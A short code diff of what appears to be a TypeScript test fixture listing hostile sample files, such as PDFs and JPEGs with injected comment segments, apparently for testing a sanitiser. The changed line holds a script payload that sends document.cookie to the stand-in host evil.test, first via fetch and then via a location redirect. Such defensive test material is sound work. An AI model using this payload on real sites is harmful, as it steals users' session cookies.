@@ -71,7 +71,7 @@ export const hostilePdfs: readonly (readonly [string, Buffer])[] = [
   ],
 ]
 
-const page = '<html><script>fetch("https://evil.test/"+document.cookie)</script></html>'
+const page = '<html><script>location="https://evil.test/"+document.cookie</script></html>'
 const comment = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), Buffer.from(text)])
 const jpeg = jpegOf([640, 480])
 const afterStart = (bytes: Buffer) => Buffer.concat([jpeg.subarray(0, 2), bytes, jpeg.subarray(2)])
